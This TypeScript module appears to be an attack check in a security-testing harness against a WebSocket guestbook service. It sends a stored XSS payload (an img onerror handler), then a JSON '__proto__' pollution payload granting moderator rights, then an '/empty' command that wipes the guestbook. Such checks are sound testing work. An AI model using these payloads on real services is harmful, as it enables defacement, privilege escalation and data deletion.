// Two messages: one that a page runs, and one that makes everybody a moderator.
import { once } from "node:events";

import { WebSocket } from "ws";

import type { Attempt } from "../../attempt.ts";

const script = `<img src=x onerror="document.body.style.background='crimson'">`;
const pollution = `{"text":"hello","__proto__":{"isModerator":true}}`;

/** What a reader of the book gets; `null` where who writes is put out. */
function next(reader: WebSocket, writer: WebSocket): Promise<string | null> {
  return new Promise((done) => {
    reader.once("message", (data) => done(String(data)));
    writer.once("close", () => done(null));
  });
}

/** Connects a guest, past what stands in the book already. */
async function connect({ url, origin }: Attempt): Promise<WebSocket> {
  const socket = new WebSocket(url, { origin });
  await once(socket, "open");
  socket.ping();
  await once(socket, "pong");
  return socket;
}

/** Plants a script for all readers, and empties the book as a moderator. */
export async function attack(attempt: Attempt): Promise<boolean> {
  const { say } = attempt;
  const reader = await connect(attempt);
  const results: boolean[] = [];
  for (const [message, sign] of [
    [JSON.stringify({ name: "mallory", text: script }), "onerror"],
    [pollution, "hello"],
    [JSON.stringify({ text: "/empty" }), '"emptied":true'],
  ] as const) {
    const writer = await connect(attempt);
    say(`> ${message}`);
    const came = next(reader, writer);
    writer.send(message);
    const got = await came;
    say(got === null ? "< who wrote it was put out" : `< another reader got ${got}`);
    results.push(got?.includes(sign) === true);
    writer.terminate();
  }
  reader.terminate();
  return results[0] === true && results[2] === true;
}
